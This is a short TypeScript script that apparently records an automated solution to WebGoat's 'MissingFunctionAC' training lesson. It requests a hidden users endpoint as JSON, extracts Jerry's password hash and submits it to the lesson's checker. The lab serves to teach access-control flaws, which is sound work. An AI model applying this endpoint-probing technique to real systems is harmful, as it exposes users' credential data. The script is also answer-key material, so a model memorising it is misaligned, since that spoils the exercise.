import { form } from '../visitor';
import { recordExercise } from '../webgoat';

const USERS = '/WebGoat/access-control/users';

/** The user list as a page (status 500), then as data, because the request names its type; then Jerry's hash. */
export const record = recordExercise('MissingFunctionAC', async ({ send, solve }) => {
  await send({ method: 'GET', path: USERS });
  const { body } = await send({ method: 'GET', path: USERS, type: 'application/json' });
  const users = JSON.parse(body) as { username: string; userHash: string }[];
  const userHash = users.find(({ username }) => username === 'Jerry')?.userHash ?? '';
  await solve({ method: 'POST', path: '/WebGoat/access-control/user-hash', ...form({ userHash }) });
});
